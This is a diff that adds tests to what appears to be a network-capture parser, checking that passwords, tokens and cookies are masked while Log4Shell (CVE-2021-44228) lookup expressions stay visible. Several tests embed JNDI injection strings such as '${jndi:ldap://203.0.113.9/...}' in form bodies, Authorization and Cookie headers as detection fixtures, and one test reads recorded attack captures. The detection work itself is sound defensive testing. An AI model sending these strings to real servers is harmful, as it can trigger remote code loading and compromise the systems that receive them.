@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import gzip
+import json
 import zlib
 from collections.abc import Callable
 from pathlib import Path
@@ -118,6 +119,48 @@ def test_the_user_is_told_and_the_secrets_are_not(write_capture: Write) -> None:
     assert values == {"Host": "web.vn", "Authorization": "***", "Cookie": "***"}
     shown = talk(write_capture, *turns, settings=PacketSettings(checksums="off", capture_secrets=True))
     assert shown.events("network.http")[0]["url"]["password"] == "mat khau"
+
+
+def test_an_expression_in_a_secret_or_a_form_is_told_and_what_is_around_it_is_not(write_capture: Write) -> None:
+    form = b"uname=%24%7Bjndi:ldap://203.0.113.9/a%7D&password=mat+khau"
+    fields = ("Authorization: Bearer ${jndi:ldap://203.0.113.9/b}", "Cookie: session=1; x=${env:HOME}")
+    kinds = ("application/x-www-form-urlencoded", "application/octet-stream")
+    for kind in kinds:
+        turns = (
+            ask("/login", *fields, f"Content-Type: {kind}", f"Content-Length: {len(form)}", method="POST", body=form),
+            answer("Content-Length: 0"),
+        )
+        for cut in (1, 1_400):
+            reading = talk(write_capture, *turns, cut=cut)
+            (event,) = reading.events("network.http")
+            values = {field["name"]: field["value"] for field in event["khien"]["http"]["request_headers"]}
+            assert values["Authorization"] == "***${jndi:ldap://203.0.113.9/b}"
+            assert values["Cookie"] == "***${env:HOME}"
+            content = "***%24%7Bjndi:ldap://203.0.113.9/a%7D***" if kind == kinds[0] else None
+            assert event["http"]["request"]["body"].get("content") == content
+            assert b"khau" not in reading.lines
+    off = talk(write_capture, *turns, settings=PacketSettings(checksums="off", http_request_text=0))
+    assert "content" not in off.events("network.http")[0]["http"]["request"]["body"]
+
+
+def test_a_form_is_searched_as_far_as_the_setting_says_and_the_rest_is_counted(write_capture: Write) -> None:
+    for before, is_told in ((4_000, True), (4_096, False)):
+        form = b"a" * before + b"${jndi:dns://x}"
+        head = ("Content-Type: text/plain", f"Content-Length: {len(form)}")
+        reading = talk(write_capture, ask("/", *head, method="POST", body=form), answer("Content-Length: 0"))
+        (event,) = reading.events("network.http")
+        assert event["http"]["request"]["body"].get("content") == ("***${jndi:dns://x}" if is_told else None)
+        assert reading.stats["limits"] == ({} if is_told else {"http_request_text": 1})
+
+
+def test_neither_recording_of_log4shell_hides_it(captures: Path) -> None:
+    found = {}
+    for path in sorted((captures / "attacks/cve-2021-44228").glob("*.pcap")):
+        events = read(str(path), PacketSettings(checksums="off")).events("network.http")
+        events.sort(key=lambda event: event["event"]["start"])
+        found[path.name[:5]] = [json.dumps(event).count("${jndi:ldap://") for event in events]
+    # tshark -Y http.request: the second and third log-in; the bearer token.
+    assert found == {"log4j": [0, 1, 1, 0], "spcap": [1]}
 
 
 def test_a_request_of_version_0_9_is_answered_by_a_body_alone(write_capture: Write) -> None:
